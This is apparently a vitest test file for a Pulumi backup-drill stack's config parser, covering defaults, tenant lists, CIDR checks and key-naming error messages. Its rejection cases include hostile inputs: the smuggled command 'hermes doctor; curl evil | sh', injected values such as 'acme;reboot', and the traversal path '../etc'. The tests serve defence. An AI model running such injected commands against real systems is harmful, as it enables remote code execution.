// The drill stack's config: defaults, and a clear error naming the key for every bad value.
import * as pulumi from "@pulumi/pulumi";
import * as fs from "fs";
import * as path from "path";
import { parse as parseYaml } from "yaml";
import { afterEach, describe, expect, it } from "vitest";
import { ConfigError } from "../../config/common";
import { agentHealthCheck } from "../../components/drill-command";
import { cidrProblems, drillConfigKeys, loadDrillConfig, maxTenantsPerBox, parseDrillConfig, reportFileOf } from "../../config/drill";

const minimal = { prodStack: "acme-org/agent-backups/prod", tenants: ["acme"], region: "eu-central-1", sshCidr: "203.0.113.7/32" };

/** The problem lines of the ConfigError thrown for `raw`. */
function problems(raw: Record<string, unknown>): string[] {
  try {
    parseDrillConfig(raw);
  } catch (err) {
    expect(err).toBeInstanceOf(ConfigError);
    return [...(err as ConfigError).problems];
  }
  throw new Error(`accepted ${JSON.stringify(raw)}`);
}

describe("drill config", () => {
  it("fills the documented defaults", () => {
    expect(parseDrillConfig(minimal)).toEqual({
      ...minimal,
      archive: "latest",
      instanceType: "t3.small",
      architecture: "x86_64",
      ttlHours: 4,
      rootVolumeGiB: 16,
      agentCheck: agentHealthCheck,
      reportDir: "drill-reports",
    });
    expect(reportFileOf("drill-reports", "acme")).toBe("drill-reports/acme.json");
  });

  it("runs the local drill's agent check by default: the agent's own checks", () => {
    expect(parseDrillConfig(minimal).agentCheck).toBe(agentHealthCheck);
    expect(agentHealthCheck).toBe("/var/lib/agent-backup/install-source/agent-check-hermes");
  });

  it("takes several tenants, as a list or as Pulumi hands a YAML list over (its JSON text)", () => {
    expect(parseDrillConfig({ ...minimal, tenants: ["acme", "globex", "initech"] }).tenants).toEqual(["acme", "globex", "initech"]);
    expect(parseDrillConfig({ ...minimal, tenants: '["acme","globex"]' }).tenants).toEqual(["acme", "globex"]);
  });

  it("keeps the single-tenant form: tenant: acme is tenants: [acme]", () => {
    const { tenants: _t, ...rest } = minimal;
    const config = parseDrillConfig({ ...rest, tenant: "acme" });
    expect(config.tenants).toEqual(["acme"]);
    expect(config).not.toHaveProperty("tenant");
  });

  it("refuses both forms at once, an empty or too long list, a tenant twice, and a bad name in the list", () => {
    expect(problems({ ...minimal, tenant: "acme" })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*set tenants or tenant, not both/)]);
    expect(problems({ ...minimal, tenants: [] })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*at least one tenant/)]);
    const many = Array.from({ length: maxTenantsPerBox + 1 }, (_, i) => `t${i}`);
    expect(problems({ ...minimal, tenants: many })).toEqual([expect.stringMatching(new RegExp(`^agent-backups:tenants: .*at most ${maxTenantsPerBox} tenants`))]);
    expect(problems({ ...minimal, tenants: ["acme", "acme"] })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*listed twice/)]);
    expect(problems({ ...minimal, tenants: ["acme", "Bad;id"] })).toEqual([expect.stringMatching(/^agent-backups:tenants.*refusing "Bad;id": not a valid tenant/)]);
    expect(problems({ ...minimal, tenants: "acme" })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*a list of tenant names/)]);
  });

  it("refuses a named archive for several tenants (an archive belongs to one)", () => {
    expect(parseDrillConfig({ ...minimal, archive: "acme-2026-11-24T03:17:00" }).archive).toBe("acme-2026-11-24T03:17:00");
    expect(problems({ ...minimal, tenants: ["acme", "globex"], archive: "acme-2026-11-24T03:17:00" }))
      .toEqual([expect.stringMatching(/^agent-backups:archive: .*belongs to one tenant/)]);
  });

  it("takes numbers as Pulumi hands them over (strings) and every optional key", () => {
    const config = parseDrillConfig({
      ...minimal, archive: "acme-2026-11-24T03:17:00", instanceType: "t4g.medium", architecture: "arm64",
      imageId: "ami-0123456789abcdef0", subnetId: "subnet-0123456789abcdef0", ttlHours: "12", rootVolumeGiB: "64",
      agentCheck: "/usr/local/bin/my-agent-check --strict", reportDir: "/tmp/reports",
    });
    expect(config).toMatchObject({ agentCheck: "/usr/local/bin/my-agent-check --strict", reportDir: "/tmp/reports" });
    expect(config).toMatchObject({ ttlHours: 12, rootVolumeGiB: 64, architecture: "arm64", archive: "acme-2026-11-24T03:17:00", subnetId: "subnet-0123456789abcdef0" });
  });

  it("names every missing required key at once", () => {
    const lines = problems({});
    for (const key of ["prodStack", "tenants", "region", "sshCidr"]) {
      expect(lines.some((l) => l.startsWith(`agent-backups:${key}: `)), key).toBe(true);
    }
    expect(lines).toHaveLength(4);
  });

  const bad: [string, unknown, RegExp][] = [
    ["prodStack", "prod", /expected org\/project\/stack/],
    ["prodStack", "a/b/c/d", /expected org\/project\/stack/],
    ["archive", "../etc", /refusing "..\/etc": not a valid archive_name/],
    ["archive", "", /not a valid archive_name/],
    ["region", "Frankfurt", /an AWS region such as eu-central-1/],
    ["instanceType", "t3 small", /an EC2 instance type/],
    ["architecture", "i386", /x86_64|arm64/],
    ["imageId", "ami-XYZ", /an AMI id/],
    ["subnetId", "subnet-XYZ", /a subnet id such as subnet-0123456789abcdef0/],
    ["subnetId", "vpc-0123456789abcdef0", /a subnet id/],
    ["sshCidr", "0.0.0.0/0", /whole internet/],
    ["sshCidr", "203.0.113.7", /not an IPv4 CIDR/],
    ["sshCidr", "203.0.113.7/24", /host bits are set; did you mean 203\.0\.113\.0\/24\?/],
    ["sshCidr", "300.0.113.7/32", /octet is above 255/],
    ["sshCidr", "203.0.113.7/33", /above \/32/],
    ["ttlHours", "0", /at least 1 hours/],
    ["ttlHours", "25", /at most 24 hours/],
    ["ttlHours", "four", /expected a whole number of hours/],
    ["ttlHours", "2.5", /expected a whole number of hours/],
    ["rootVolumeGiB", "4", /at least 8 GiB/],
    ["agentCheck", "hermes doctor; curl evil | sh", /no quotes or shell syntax/],
    ["agentCheck", "hermes  doctor", /separated by single spaces/],
    ["agentCheck", "hermes 'doctor'", /no quotes/],
    ["reportDir", "report dir", /not a valid rel_path/],
  ];
  it.each([["Acme", /refusing "Acme": not a valid tenant/], ["acme;reboot", /not a valid tenant/]] as const)(
    "refuses tenant=%j (the single-tenant form) naming the key", (value, message) => {
      const { tenants: _t, ...rest } = minimal;
      const lines = problems({ ...rest, tenant: value });
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^agent-backups:tenant: /);
      expect(lines[0]).toMatch(message);
    });

  it.each(bad)("refuses %s=%j with a clear message naming the key", (key, value, message) => {
    const lines = problems({ ...minimal, [key]: value });
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(new RegExp(`^agent-backups:${key}: `));
    expect(lines[0]).toMatch(message);
  });

  it("refuses an unknown key (a typo) and lists the known ones", () => {
    const lines = problems({ ...minimal, ttlHour: "4" });
    expect(lines).toEqual([`agent-backups:ttlHour: unknown key (a typo? known: ${drillConfigKeys.join(", ")})`]);
  });

  it("computes network addresses for the host-bits hint", () => {
    expect(cidrProblems("10.1.2.3/8")).toEqual(['refusing "10.1.2.3/8": host bits are set; did you mean 10.0.0.0/8?']);
    expect(cidrProblems("10.0.0.0/8")).toEqual([]);
    expect(cidrProblems("198.51.100.255/32")).toEqual([]);
  });
});

describe("loadDrillConfig", () => {
  afterEach(() => pulumi.runtime.setAllConfig({}));

  it("reads the agent-backups keys of the stack and only those", () => {
    pulumi.runtime.setAllConfig({
      "agent-backups:prodStack": minimal.prodStack,
      "agent-backups:tenants": '["acme"]',
      "agent-backups:region": "eu-central-1",
      "agent-backups:sshCidr": "203.0.113.7/32",
      "agent-backups:ttlHours": "2",
      "aws:region": "us-east-1",
    });
    expect(loadDrillConfig()).toMatchObject({ ...minimal, ttlHours: 2 });
  });

  it("reports a bad stack value with its full key", () => {
    pulumi.runtime.setAllConfig({ "agent-backups:prodStack": minimal.prodStack, "agent-backups:tenant": "acme" });
    expect(() => loadDrillConfig()).toThrow(/agent-backups:region: required[\s\S]*agent-backups:sshCidr: required/);
  });
});

describe("Pulumi.drill.yaml", () => {
  it("is a valid drill config as committed, and sets every required key", () => {
    const file = parseYaml(fs.readFileSync(path.join(__dirname, "..", "..", "Pulumi.drill.yaml"), "utf8")) as { config: Record<string, unknown> };
    const raw = Object.fromEntries(Object.entries(file.config).map(([k, v]) => {
      expect(k.startsWith("agent-backups:"), k).toBe(true);
      // The Pulumi CLI hands every value over as a string, a structured one as its JSON text.
      return [k.slice("agent-backups:".length), typeof v === "object" ? JSON.stringify(v) : String(v)];
    }));
    const config = parseDrillConfig(raw);
    expect(config.ttlHours).toBe(4);
    expect(config.tenants).toEqual(["acme"]);
    expect(config.agentCheck).toBe(agentHealthCheck);
    for (const key of ["prodStack", "tenants", "region", "sshCidr"]) expect(raw, key).toHaveProperty(key);
  });
});
